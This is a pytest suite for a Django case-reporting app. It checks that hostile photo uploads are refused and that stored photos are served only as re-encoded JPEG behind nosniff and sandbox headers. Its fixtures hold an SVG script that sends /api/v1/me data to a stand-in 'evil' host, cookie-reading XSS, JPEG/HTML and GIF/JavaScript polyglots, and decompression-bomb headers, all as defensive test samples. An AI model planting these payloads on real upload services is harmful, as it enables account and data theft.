"""Hostile uploads (docs/security.md#uploads): every one refused with a clear error and nothing
stored; what is served from the photo store is only ever our own re-encoded JPEG."""

from __future__ import annotations

import io
import random
import struct
import zlib

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from gongzhi.cases import intake
from gongzhi.cases.models import Case, CasePhoto

pytestmark = pytest.mark.django_db
IN_A1 = {"lon": "100.05", "lat": "30.05"}

SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b'<script>fetch("/api/v1/me").then(r => r.text()).then(t => new Image().src="//evil/?"+t)</script></svg>')
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def jpeg(size=(64, 48), color=(200, 80, 40)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, color).save(buf, "JPEG")
    return buf.getvalue()


def jpeg_with_comment(comment: bytes) -> bytes:
    """A valid JPEG carrying ``comment`` in a COM segment right after SOI: an image and a page at once."""
    data = jpeg()
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return data[:2] + segment + data[2:]


def png_header_only(width: int, height: int) -> bytes:
    """A tiny PNG announcing a huge image (the decompression-bomb header), with a token IDAT."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")


def upload(content: bytes, name="photo.jpg", content_type="image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


@pytest.fixture
def store(settings, tmp_path):
    settings.STORAGES = {**settings.STORAGES, "default": {
        "BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(tmp_path)}}}
    return tmp_path


def stored_files(store) -> list:
    return [p for p in store.rglob("*") if p.is_file()]


def assert_nothing_stored(store):
    assert Case.objects.count() == 0
    assert CasePhoto.objects.count() == 0
    assert stored_files(store) == []


HOSTILE = {
    "svg with script, named .jpg": (SVG, "不是可识别的照片"),
    "svg with script, named .svg": (SVG, "不是可识别的照片"),
    "html named .jpg": (HTML, "不是可识别的照片"),
    "plain html named .jpg": (b"<html><body><img src=x></body></html>", "不是可识别的照片"),
    "jpeg + html polyglot (COM segment)": (jpeg_with_comment(b"<script>alert(1)</script>"), "网页或脚本"),
    "jpeg + html polyglot (after EOI)": (jpeg() + b"<!doctype html><p>hi</p>", "网页或脚本"),
    "gif/javascript polyglot": (b"GIF89a/*\x0a\x00\x0a\x00\x00\x00\x00*/=alert(1);//" + b"\x00" * 20, "不是可识别的照片"),
    "pdf named .jpg": (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "不是可识别的照片"),
    "eps named .jpg": (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n", "不是可识别的照片"),
    "decompression bomb header": (png_header_only(100_000, 100_000), "照片尺寸过大"),
    "just over the pixel limit": (png_header_only(8000, 6000), "照片尺寸过大"),
    "truncated jpeg": (jpeg()[:200], "不是可识别的照片"),
    "empty file": (b"", "不是可识别的照片"),
}


@pytest.mark.parametrize("what", list(HOSTILE))
def test_hostile_files_are_refused_by_the_api_and_nothing_is_stored(what, world, login, store):
    content, message = HOSTILE[what]
    name = "photo.svg" if "named .svg" in what else "photo.jpg"
    client = login(world.worker)
    r = client.post("/api/v1/cases/with-photos", {"title": "占道经营", **IN_A1,
                                                  "photos": [upload(jpeg(), "ok.jpg"), upload(content, name)]})
    assert r.status_code == 400, r.content
    body = r.json()["error"]
    assert body["code"] == "invalid"
    assert any(message in m for m in body["fields"]["photos"]), body
    assert_nothing_stored(store)


@pytest.mark.parametrize("what", ["svg with script, named .jpg", "jpeg + html polyglot (COM segment)",
                                  "decompression bomb header"])
def test_hostile_files_are_refused_by_the_report_page_and_nothing_is_stored(what, world, login, store):
    content, message = HOSTILE[what]
    client = login(world.worker)
    r = client.post("/report/", {"title": "占道经营", **IN_A1, "photos": [upload(content)]})
    assert r.status_code == 400
    assert message in r.content.decode()
    r = client.post("/report/", {"title": "占道经营", **IN_A1, "photos": [upload(content)]},
                    HTTP_ACCEPT="application/json")
    assert r.status_code == 400 and any(message in m for m in r.json()["error"]["fields"]["photos"])
    assert_nothing_stored(store)


def test_a_real_decompression_bomb_is_refused_before_it_is_decoded(world, store):
    """A 48-megapixel black PNG is a few kilobytes; its header alone refuses it."""
    buf = io.BytesIO()
    Image.new("1", (8000, 6000)).save(buf, "PNG")
    assert len(buf.getvalue()) < 100_000
    with pytest.raises(Exception) as refused:
        intake.report_case(intake.Report(title="x", lon=100.05, lat=30.05,
                                         photos=[upload(buf.getvalue(), "bomb.png", "image/png")]),
                           reporter=world.worker)
    assert "照片尺寸过大" in str(refused.value)
    assert_nothing_stored(store)


def test_an_oversize_file_is_refused(settings, world, login, store):
    settings.CASE_PHOTO_MAX_BYTES = 1024 * 1024
    noise = Image.frombytes("RGB", (1000, 800), random.Random(1).randbytes(1000 * 800 * 3))
    buf = io.BytesIO()
    noise.save(buf, "PNG")
    assert len(buf.getvalue()) > 1024 * 1024
    r = login(world.worker).post("/api/v1/cases/with-photos", {"title": "x", **IN_A1,
                                                               "photos": [upload(buf.getvalue(), "big.png")]})
    assert r.status_code == 400
    assert r.json()["error"]["fields"]["photos"] == ["照片不能超过 1 MB"]
    assert_nothing_stored(store)


def test_too_many_files_are_refused(settings, world, login, store):
    files = [upload(jpeg(), f"p{i}.jpg") for i in range(settings.CASE_PHOTO_MAX_COUNT + 1)]
    client = login(world.worker)
    r = client.post("/api/v1/cases/with-photos", {"title": "x", **IN_A1, "photos": files})
    assert r.status_code == 400
    assert r.json()["error"]["message"] == f"最多上传 {settings.CASE_PHOTO_MAX_COUNT} 张照片"
    for f in files:
        f.seek(0)
    r = client.post("/report/", {"title": "x", **IN_A1, "photos": files})
    assert r.status_code == 400 and "最多上传" in r.content.decode()
    assert_nothing_stored(store)


def test_only_the_pixels_survive_a_good_photo(world, store):
    """A JPEG with a comment and trailing bytes that carry no markup is accepted — and re-encoded:
    neither the comment nor the trailer reaches any stored copy."""
    content = jpeg_with_comment(b"made by PhoneMaker 12") + b"TRAILER-DATA"
    case, _ = intake.report_case(intake.Report(title="x", lon=100.05, lat=30.05, photos=[upload(content)]),
                                 reporter=world.worker)
    photo = case.photos.get()
    for field in (photo.image, photo.public, photo.thumbnail):
        assert field.name.endswith(".jpg") and "photo" not in field.name  # our name, not the upload's
        with field.open("rb") as fh:
            data = fh.read()
        assert data.startswith(b"\xff\xd8\xff") and b"PhoneMaker" not in data and b"TRAILER" not in data


# --- serving ---------------------------------------------------------------------------------------

@pytest.fixture
def served(world, store):
    case, _ = intake.report_case(intake.Report(title="x", lon=100.05, lat=30.05, photos=[upload(jpeg())]),
                                 reporter=world.worker)
    return case, case.photos.get()


def test_photos_are_served_as_jpeg_with_nosniff_and_a_sandbox(served, world, login):
    case, photo = served
    client = login(world.worker)
    for url in (f"/cases/{case.number}/photos/{photo.pk}/public", f"/api/v1/cases/{case.number}/photos/{photo.pk}/public"):
        r = client.get(url)
        assert r.status_code == 200, url
        assert r["Content-Type"] == "image/jpeg"
        assert r["X-Content-Type-Options"] == "nosniff"
        assert r["Content-Disposition"] == "inline"
        assert r["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert b"".join(r.streaming_content if r.streaming else [r.content]).startswith(b"\xff\xd8\xff")


def test_a_file_that_is_not_our_jpeg_is_never_served(served, world, login, store):
    """Should anything else ever land in the photo store (placed by hand, an old import), it is
    refused rather than served — whatever its name says."""
    case, photo = served
    client = login(world.worker)
    photo.public.save("planted.jpg", ContentFile(HTML), save=True)  # HTML behind a .jpg name
    photo.thumbnail.save("planted.svg", ContentFile(SVG), save=True)  # an SVG by name
    for kind in ("public", "thumbnail"):
        for url in (f"/cases/{case.number}/photos/{photo.pk}/{kind}",
                    f"/api/v1/cases/{case.number}/photos/{photo.pk}/{kind}"):
            r = client.get(url)
            assert r.status_code == 404, url
            assert b"alert(document.cookie)" not in r.content and b"evil" not in r.content


def test_media_is_not_served_by_url(served, store):
    name = stored_files(store)[0].relative_to(store)
    for url in (f"/media/{name}", f"/static/../media/{name}"):
        assert Client().get(url).status_code == 404
